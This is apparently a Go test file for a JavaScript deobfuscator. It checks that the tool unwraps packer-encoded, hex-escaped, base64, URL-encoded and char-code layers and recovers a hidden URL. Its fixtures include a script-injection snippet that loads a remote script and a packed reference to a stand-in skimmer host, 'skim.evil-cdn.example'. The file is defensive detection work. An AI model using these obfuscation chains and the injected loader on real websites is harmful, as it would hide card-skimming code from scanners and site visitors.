package decode

import (
	"fmt"
	"regexp"
	"strings"
	"testing"
)

var wordRE = regexp.MustCompile(`\b\w+\b`)

// pack packs src the way Dean Edwards' packer does (base 62, one dictionary
// entry per distinct word).
func pack(src string, radix int) string {
	const digits = "0123456789abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ"
	enc := func(n int) string {
		s := ""
		for {
			s = string(digits[n%radix]) + s
			if n /= radix; n == 0 {
				return s
			}
		}
	}
	index := map[string]int{}
	var words []string
	payload := wordRE.ReplaceAllStringFunc(src, func(w string) string {
		n, ok := index[w]
		if !ok {
			n = len(words)
			index[w] = n
			words = append(words, w)
		}
		return enc(n)
	})
	payload = strings.NewReplacer(`\`, `\\`, `'`, `\'`).Replace(payload)
	return fmt.Sprintf(`eval(function(p,a,c,k,e,d){e=function(c){return(c<a?'':e(parseInt(c/a)))+((c=c%%a)>35?String.fromCharCode(c+29):c.toString(36))};if(!''.replace(/^/,String)){while(c--){d[e(c)]=k[c]||e(c)}k=[function(e){return d[e]}];e=function(){return'\\w+'};c=1};while(c--){if(k[c]){p=p.replace(new RegExp('\\b'+e(c)+'\\b','g'),k[c])}}return p}('%s',%d,%d,'%s'.split('|'),0,{}))`,
		payload, radix, len(words), strings.Join(words, "|"))
}

// escapedPack packs src with its payload and word list written as \xHH
// strings, as some packers do.
func escapedPack(src string) string {
	packed := pack(src, 62)
	a := strings.Index(packed, "}('") + 3
	b := strings.Index(packed, "',62,")
	w0 := strings.LastIndex(packed, ",'") + 2
	w1 := strings.Index(packed, "'.split(")
	payload := strings.NewReplacer(`\\`, `\`, `\'`, `'`).Replace(packed[a:b])
	return packed[:a] + hexEsc(payload, 1) + packed[b:w0] + hexEsc(packed[w0:w1], 1) + packed[w1:]
}

func TestPacker(t *testing.T) {
	t.Parallel()
	script := "var s=document.createElement('script');s.src='" + testURL + "';document.head.appendChild(s);"
	var big strings.Builder
	for i := range 100 {
		fmt.Fprintf(&big, "var v%d=%d;", i, i)
	}
	big.WriteString(script)
	packed := pack(script, 62)
	tests := []familyCase{
		{name: "base 62", in: packed, chain: "packer", text: testURL, at: packed},
		{name: "base 36", in: pack(script, 36), chain: "packer", text: testURL},
		{name: "base 10", in: pack(script, 10), chain: "packer", text: testURL},
		{name: "many words", in: pack(big.String(), 62), chain: "packer", text: testURL},
		{name: "in html", in: "<script>" + packed + "</script>", chain: "packer", text: testURL},
		{name: "packed hex escapes", in: pack(`var u='\x68\x74\x74\x70\x73://skim.evil-cdn.example';`, 62), chain: "packer>hex-escape", text: "https://skim.evil-cdn.example"},
		{name: "base64 of packed", in: "eval(atob('" + b64(packed) + "'))", chain: "base64>packer", text: testURL},

		{name: "escaped payload and words", in: escapedPack(script), chain: "hex-escape>packer", text: testURL},
		{name: "split in brackets", in: strings.Replace(packed, ".split('|')", "['split']('|')", 1), chain: "packer", text: testURL},
		{name: "escaped split in brackets", in: strings.Replace(packed, ".split('|')", `["\x73\x70\x6c\x69\x74"]("\x7c")`, 1), chain: "packer", text: testURL},
		{name: "eval by bracket", in: "this['eval'](" + strings.TrimPrefix(packed, "eval("), chain: "packer", text: testURL, at: "this['eval'](" + strings.TrimPrefix(packed, "eval(")},
		{name: "window.eval", in: "window.eval(" + strings.TrimPrefix(packed, "eval("), chain: "packer", text: testURL},
		{name: "in a hex-escaped string", in: "eval('" + hexEsc(packed, 1) + "')", chain: "hex-escape>packer", text: testURL},
		{name: "in a url-encoded string", in: "eval(unescape('" + percentAll(packed) + "'))", chain: "url-encoded>packer", text: testURL},
		{name: "in char codes", in: "eval(String.fromCharCode(" + codes(packed, false) + "))", chain: "charcode>packer", text: testURL},
		{name: "packed twice", in: pack(packed, 62), chain: "packer>packer", text: testURL},
		{name: "escaped, packed twice", in: escapedPack(packed), chain: "hex-escape>packer>packer", text: testURL},

		{name: "plain eval", in: "eval(function(){return 1}())"},
		{name: "word list not a literal", in: "run(function(p,a,c,k,e,d){return p}('0 1',62,2,x,0,{}))"},
		{name: "truncated", in: packed[:len(packed)/2]},
		{name: "no split", in: "eval(function(p,a,c,k,e,d){return p}('0 1',62,2,'a|b',0,{}))"},
	}
	runFamily(t, Packer, tests)
}

func TestUnpack(t *testing.T) {
	t.Parallel()
	tests := []struct {
		payload string
		radix   int
		words   string
		want    string
	}{
		{"0 1 2", 62, "a|b|c", "a b c"},
		{"0 1 Z", 62, "a||c", "a 1 Z"},
		{"10 z", 36, strings.Repeat("|", 36) + "x", "x z"},
		{"_0 $1", 62, "a|b", "_0 $b"},
	}
	for _, tt := range tests {
		var words [][]byte
		for _, w := range strings.Split(tt.words, "|") {
			words = append(words, []byte(w))
		}
		got, ok := unpack([]byte(tt.payload), tt.radix, words)
		if !ok || string(got) != tt.want {
			t.Errorf("unpack(%q, %d, %q) = %q, %v, want %q", tt.payload, tt.radix, tt.words, got, ok, tt.want)
		}
	}
}
